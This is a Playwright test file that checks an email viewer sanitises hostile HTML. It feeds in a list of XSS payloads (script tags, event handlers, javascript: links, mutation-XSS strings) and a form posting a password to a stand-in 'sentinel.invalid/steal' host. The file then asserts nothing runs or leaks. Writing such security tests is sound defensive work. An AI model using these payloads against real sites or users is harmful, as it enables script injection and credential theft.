import { expect, type Page, type Request, test } from '@playwright/test'
import { composeMessage } from '../support/mail-fixtures'
import { expectNoSeriousA11yViolations } from './pages/accessibility'
import { DocumentPage } from './pages/document-page'
import { EmailPage } from './pages/email-page'
import { InboxPage } from './pages/inbox-page'

const KEY = 'e2e-demo-key-0000000000'
const TO = 'harbor-freight-demo-co@quayside.localhost'
const SENTINEL = 'sentinel.invalid'

/** Every way an email body tries to run code, load something or leave the page, and what it would leave behind. */
const HOSTILE_BODIES = [
  '<p id="marker">Arrival notice attached.</p>',
  '<script>window.__pwned = "script"; parent.__pwned = "script"; console.log("PWNED script")</script>',
  '<img src="x" onerror="window.__pwned=\'onerror\'; console.log(\'PWNED onerror\'); alert(1)">',
  '<body onload="console.log(\'PWNED onload\'); alert(2)"><div onmouseover="alert(3)">hover me</div></body>',
  '<a href="javascript:console.log(\'PWNED js-link\');alert(4)" id="js-link">click me</a>',
  '<a href="data:text/html,<script>alert(5)</script>" id="data-link">data link</a>',
  '<iframe src="data:text/html,<script>parent.__pwned=1;alert(6)</script>"></iframe>',
  '<svg onload="alert(7)"><script>alert(8)</script><image href="https://sentinel.invalid/svg.png"/></svg>',
  '<style>@import url("https://sentinel.invalid/import.css"); p { background: url(https://sentinel.invalid/bg.png) }</style>',
  '<p style="width: expression(alert(10)); background-image: url(https://sentinel.invalid/inline.png)">styled</p>',
  '<meta http-equiv="refresh" content="0;url=https://sentinel.invalid/refresh">',
  '<form action="https://sentinel.invalid/steal" method="post"><input name="password" value="x"><button id="go">Go</button></form>',
  '<base href="https://sentinel.invalid/"><a href="relative" id="based">relative link</a>',
  '<link rel="stylesheet" href="https://sentinel.invalid/sheet.css"><link rel="prefetch" href="https://sentinel.invalid/prefetch">',
  '<object data="https://sentinel.invalid/x.swf"></object><embed src="https://sentinel.invalid/y.swf">',
  '<video poster="https://sentinel.invalid/poster.png"><source src="https://sentinel.invalid/v.mp4"></video>',
  '<img src="http://sentinel.invalid/plain-http.gif" alt="plain">',
  '<img src="https://sentinel.invalid/remote.gif" alt="Remote logo">',
  '<a href="https://sentinel.invalid/ping" ping="https://sentinel.invalid/pinged">pinged link</a>',
  // mutation XSS last: what they leave open may swallow what follows
  '<noscript><p title="</noscript><img src=x onerror=alert(11)>"></p></noscript>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(9)>',
]

async function postEmail(
  page: Page,
  options: { subject: string; html: string; attachments?: { filename: string; content: string }[] },
) {
  const raw = await composeMessage({
    from: 'Mallory <mallory@evil.example>',
    to: TO,
    subject: options.subject,
    text: 'Plain text version',
    html: options.html,
    attachments: options.attachments,
  })
  const response = await page.request.post('/v2/email_submissions', {
    headers: { Authorization: `Token ${KEY}`, 'Content-Type': 'message/rfc822' },
    data: raw,
  })
  expect(response.status()).toBe(201)
  return (await response.json()).data.id as string
}

/** Records what the page (its frames included) asks for; nothing may go anywhere but this server. */
async function recordRequests(page: Page) {
  const outside: string[] = []
  await page.route('**/*', (route) => {
    const url = new URL(route.request().url())
    if (url.hostname === '127.0.0.1' || url.hostname === 'localhost') return route.continue()
    outside.push(url.href)
    return route.abort()
  })
  return outside
}

test('a hostile email body runs nothing and loads nothing from outside until remote images are asked for', async ({
  page,
}) => {
  const dialogs: string[] = []
  const pwned: string[] = []
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  page.on('console', (message) => {
    if (message.text().includes('PWNED')) pwned.push(message.text())
  })
  const requests: Request[] = []
  page.on('request', (request) => requests.push(request))
  const outside = await recordRequests(page)
  await page.goto('/email')
  const id = await postEmail(page, { subject: 'Hostile body', html: HOSTILE_BODIES.join('\n') })

  const email = new EmailPage(page)
  await email.open(id)
  await expect(email.heading()).toHaveText('Hostile body')
  await expect(email.messageFrame()).toHaveAttribute('sandbox', '')
  const frame = email.message()
  await expect(frame.locator('#marker')).toHaveText('Arrival notice attached.')
  // the frame's load event waits for everything its markup asked for (the page itself keeps polling while
  // attachments are read, so the whole page is never idle)
  await email.messageLoaded()

  // what would have run or submitted is gone from the frame
  for (const selector of [
    'script',
    'form',
    'input',
    'iframe',
    'object',
    'embed',
    'svg',
    'math',
    'meta[http-equiv]',
    'base',
    'link',
  ])
    await expect(frame.locator(`body ${selector}`), selector).toHaveCount(0)
  await expect(frame.locator('[onerror], [onload], [onmouseover]')).toHaveCount(0)
  await expect(frame.locator('a[href^="javascript:"], a[href^="data:"]')).toHaveCount(0)
  // clicking what is left does nothing either
  await frame.getByText('click me').click()
  await frame.getByText('hover me').hover()
  await frame.getByText('relative link').click()
  await frame.getByText('pinged link').click()

  const handle = await email.messageFrame().elementHandle()
  const inner = await handle!.contentFrame()
  expect(await inner!.evaluate(() => (window as { __pwned?: unknown }).__pwned)).toBeUndefined()
  expect(await page.evaluate(() => (window as { __pwned?: unknown }).__pwned)).toBeUndefined()
  expect(dialogs).toEqual([])
  expect(pwned).toEqual([])
  expect(outside).toEqual([])
  expect(requests.filter((r) => r.url().includes(SENTINEL))).toEqual([])

  // remote images only when asked for, and then https ones only
  await expect(email.remoteImagesNote()).toBeVisible()
  await email.showRemoteImages().click()
  await expect(page).toHaveURL(/images=shown/)
  await expect.poll(() => outside).toContain(`https://${SENTINEL}/remote.gif`)
  await email.messageLoaded()
  expect(outside.filter((url) => url !== `https://${SENTINEL}/remote.gif`)).toEqual([])
  expect(dialogs).toEqual([])
  expect(pwned).toEqual([])

  // the plain text shows instead when asked for
  await email.plainText().click()
  await expect(page.getByText('Plain text version')).toBeVisible()
  await expectNoSeriousA11yViolations(page)
})

test('hostile subjects and file names show as text, in the inbox, the email and the document', async ({
  page,
}) => {
  const dialogs: string[] = []
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  const outside = await recordRequests(page)
  await page.goto('/email')
  const subject = '<script>alert("subject")</script><img src=x onerror=alert(1)>'
  const fileName = '<img src=x onerror=alert(2)>.txt'
  const id = await postEmail(page, {
    subject,
    html: '<p>see attached</p>',
    attachments: [{ filename: fileName, content: 'Container MSKU1234565\n' }],
  })

  await page.goto(`/email?q=${encodeURIComponent('<script>')}`)
  const table = new InboxPage(page).table()
  await expect(table.getByRole('link', { name: subject })).toBeVisible()
  await table.getByRole('link', { name: subject }).click()
  await expect(page).toHaveURL(new RegExp(`/email/${id}`))
  const email = new EmailPage(page)
  await expect(email.heading()).toHaveText(subject)
  await expect(email.document(fileName)).toBeVisible()
  await email.document(fileName).click()
  await expect(new DocumentPage(page).heading()).toHaveText(fileName)
  await expect(page.locator('.document-text')).toContainText('MSKU1234565')
  await expect(page.locator('img[src="x"]')).toHaveCount(0)
  expect(dialogs).toEqual([])
  expect(outside).toEqual([])
})
